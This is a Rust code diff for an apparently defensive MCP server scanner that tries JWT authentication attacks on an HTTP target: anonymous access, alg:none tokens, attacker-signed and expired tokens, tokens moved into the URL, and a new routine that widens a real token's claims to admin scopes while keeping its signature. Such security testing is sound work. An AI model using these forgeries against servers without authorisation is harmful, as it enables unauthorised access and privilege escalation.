@@ -1,6 +1,7 @@
 //! MCP07 and MCP01 on an HTTP target: sessions opened with no token, a forged unsigned JWT
 //! (`alg: none`), a JWT for another audience signed with a key the attacker made, an expired
-//! one, and the real token (`--token`) moved into the URL query. Any of them opening a session
+//! one, the real token replayed with widened claims under its own signature, and the real
+//! token (`--token`) moved into the URL query. Any of them opening a session
 //! and listing tools is the attack succeeding. A target that takes anonymous calls is said so
 //! once: every other token attack is moot there.
 
@@ -19,6 +20,7 @@ pub(crate) async fn run(
     target: &str,
     url: &str,
     headers: &BTreeMap<String, String>,
+    token: Option<&str>,
     options: &Options,
 ) -> Vec<Attempt> {
     let mut bare = headers.clone();
@@ -37,11 +39,11 @@ pub(crate) async fn run(
         )];
     }
     let mut attempts = vec![judge(target, Risk::WeakAuth, "anonymous access", anonymous)];
-    let claims = claims_of(options.token.as_deref(), url);
+    let claims = claims_of(token, url);
     let now = now();
     let mut unsigned = claims.clone();
     unsigned["exp"] = json!(now + 3600);
-    let none = jwt(&json!({"alg": "none", "typ": "JWT"}), &unsigned, "");
+    let none = jwt(&json!({"alg": "none", "typ": TYP}), &unsigned, "");
     attempts.push(judge(
         target,
         Risk::WeakAuth,
@@ -72,7 +74,22 @@ pub(crate) async fn run(
             None => Err("could not sign".into()),
         },
     ));
-    attempts.push(match options.token.as_deref() {
+    attempts.push(match token.and_then(tampered) {
+        Some(forged) => judge(
+            target,
+            Risk::TokenMismanagement,
+            "replayed token with widened claims (signature kept)",
+            with_bearer(target, url, &bare, &forged, options).await,
+        ),
+        None => Attempt::new(
+            Risk::TokenMismanagement,
+            "replayed token with widened claims (signature kept)",
+            target,
+            Outcome::NotApplicable,
+            "needs a real JWT (--token) to tamper with",
+        ),
+    });
+    attempts.push(match token {
         Some(token) => {
             let separator = if url.contains('?') { '&' } else { '?' };
             let in_query = format!("{url}{separator}access_token={token}");
@@ -174,16 +191,51 @@ fn claims_of(token: Option<&str>, url: &str) -> Value {
         })
 }
 
+/// The real JWT replayed with its claims widened (every scope an attacker would want,
+/// another subject, a far expiry) under its own header and signature: a server that checks
+/// the signature refuses it; one that only decodes the claims lets the attacker in.
+fn tampered(token: &str) -> Option<String> {
+    let mut parts = token.split('.');
+    let (header, _, signature) = (parts.next()?, parts.next()?, parts.next()?);
+    if parts.next().is_some() {
+        return None;
+    }
+    let mut claims = claims_of(Some(token), "");
+    let object = claims.as_object_mut()?;
+    if !object.contains_key("sub") && !object.contains_key("aud") {
+        return None;
+    }
+    let scope = object
+        .get("scope")
+        .and_then(Value::as_str)
+        .unwrap_or_default()
+        .to_owned();
+    object.insert(
+        "scope".into(),
+        json!(format!("{scope} admin write registry:publish").trim()),
+    );
+    object.insert("sub".into(), json!("admin"));
+    object.insert("exp".into(), json!(now() + 365 * 86_400));
+    let body = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(claims.to_string());
+    Some(format!("{header}.{body}.{signature}"))
+}
+
 fn jwt(header: &Value, claims: &Value, signature: &str) -> String {
     let encode = |v: &Value| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v.to_string());
     format!("{}.{}.{signature}", encode(header), encode(claims))
 }
 
+/// The `typ` forgeries carry: an access token's (RFC 9068), so a server that checks it still
+/// has to check the signature, the audience and the expiry to refuse them.
+const TYP: &str = "at+jwt";
+
 /// `claims` signed HS256 with a fresh random key only the attacker knows.
 fn signed(claims: &Value) -> Option<String> {
     let key: [u8; 32] = rand::random();
+    let mut header = jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256);
+    header.typ = Some(TYP.into());
     jsonwebtoken::encode(
-        &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
+        &header,
         claims,
         &jsonwebtoken::EncodingKey::from_secret(&key),
     )
@@ -215,5 +267,26 @@ mod tests {
         let none = jwt(&json!({"alg": "none"}), &claims, "");
         assert!(none.ends_with('.') && none.matches('.').count() == 2);
         assert!(signed(&claims).is_some_and(|t| t.matches('.').count() == 2));
+    }
+
+    #[test]
+    fn a_tampered_token_keeps_header_and_signature_and_widens_the_claims() {
+        let real = jwt(
+            &json!({"alg": "RS256", "kid": "k1"}),
+            &json!({"aud": "https://rs.example/mcp", "sub": "u1", "scope": "mcp:read"}),
+            "c2lnbmF0dXJl",
+        );
+        let forged = tampered(&real).unwrap_or_default();
+        let (head, tail) = (real.split('.').next(), real.rsplit('.').next());
+        assert_eq!(forged.split('.').next(), head);
+        assert_eq!(forged.rsplit('.').next(), tail);
+        assert_ne!(forged, real);
+        let claims = claims_of(Some(&forged), "");
+        assert_eq!(claims["sub"], "admin");
+        assert_eq!(claims["aud"], "https://rs.example/mcp");
+        assert_eq!(claims["scope"], "mcp:read admin write registry:publish");
+        // Opaque tokens and four-part strings have nothing to tamper with.
+        assert_eq!(tampered("opaque-token"), None);
+        assert_eq!(tampered("a.b.c.d"), None);
     }
 }
